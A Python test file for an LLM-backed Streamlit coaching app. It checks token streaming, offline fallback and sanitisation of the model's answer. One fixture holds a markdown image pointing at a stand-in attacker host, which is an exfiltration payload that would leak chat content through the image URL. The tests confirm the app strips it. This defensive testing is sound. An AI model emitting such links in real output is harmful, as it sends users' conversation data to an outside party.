"""LLM mode in the app: the model's tokens stream into the chat as they arrive, and what stays is the
checked answer, rendered inert. The model is the fake chat model; the app runs in AppTest."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

import coach.session.intake as chat
from coach.config import Settings
from coach.errors import CoachError
from coach.records.conversation import Conversation
from coach.session.coach import Coach

APP = Path(__file__).resolve().parent.parent / "app.py"
QUESTION = "Is posting three times a week a strategy?"
PIECES = ["A posting rhythm is a tactic ", "[1]. ", "See ![x](https://evil.example/?q=CHAT) ", "and [7]."]


def test_a_streamed_reply_yields_the_models_tokens_in_order_then_the_checked_turn(model_coach, fake_model):
    fake_model.queue(PIECES)
    talk = Conversation(lang="en")
    accepted = chat.accept(talk, QUESTION, Settings())
    reply = chat.StreamedReply(model_coach, talk, accepted)
    assert list(reply) == PIECES
    assert reply.turn is talk.turns[-1] and reply.turn.mode == "llm"
    assert "[7]" not in reply.turn.text and [source.number for source in reply.turn.sources] == [1]


class FailingCoach:
    """A coach whose answer fails after one token."""

    def ask(self, text, default_lang="en", history=(), on_token=None):
        on_token("Half an ")
        raise CoachError("the index is gone")


def test_a_streamed_reply_raises_the_replys_error_after_the_tokens_that_came() -> None:
    talk = Conversation(lang="en")
    reply = chat.StreamedReply(FailingCoach(), talk, chat.accept(talk, QUESTION, Settings()))
    tokens = []
    with pytest.raises(CoachError, match="index is gone"):
        tokens.extend(reply)
    assert tokens == ["Half an "] and reply.turn is None
    assert [turn.role for turn in talk.turns] == ["user"]  # the question is kept


@pytest.fixture
def model_app(model_coach: Coach, app_data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[AppTest]:
    """The app with the fake model behind its coach seam."""
    st.cache_resource.clear()
    monkeypatch.setenv("COACH_DATA_DIR", str(app_data_dir))
    monkeypatch.setattr(chat, "build_coach", lambda: model_coach)
    yield AppTest.from_file(str(APP), default_timeout=120).run()
    st.cache_resource.clear()


def test_the_app_streams_the_models_answer_and_keeps_the_checked_inert_text(model_app, fake_model):
    fake_model.queue(PIECES)
    model_app.chat_input[0].set_value(QUESTION).run()
    assert not model_app.exception, [exception.value for exception in model_app.exception]
    assert fake_model.prompts, "the model was not asked"
    turn = model_app.session_state["keeper"].conversation.turns[-1]
    assert turn.mode == "llm" and "[7]" not in turn.text
    shown = "\n".join(part.value for part in model_app.chat_message[-1].markdown)
    assert "A posting rhythm is a tactic \\[1\\]" in shown
    assert not re.search(r"(?<!\\)\]\(", shown), "an unescaped link or image reached the page"
    assert "http" not in shown  # a model's links and images are taken out (with a notice), bare URLs too
    assert "fake-model" in "\n".join(part.value for part in model_app.sidebar.caption)  # which mode answers


def test_a_failing_model_leaves_the_offline_answer_with_its_notice_on_the_screen(model_app, fake_model):
    fake_model.queue(ConnectionError("the model server went away"))
    model_app.chat_input[0].set_value(QUESTION).run()
    assert not model_app.exception, [exception.value for exception in model_app.exception]
    turn = model_app.session_state["keeper"].conversation.turns[-1]
    assert turn.mode == "offline" and turn.sources
    captions = "\n".join(part.value for part in model_app.chat_message[-1].caption)
    assert "The model is unavailable; this answer comes from the articles." in captions
    assert captions.count("The model is unavailable") == 1
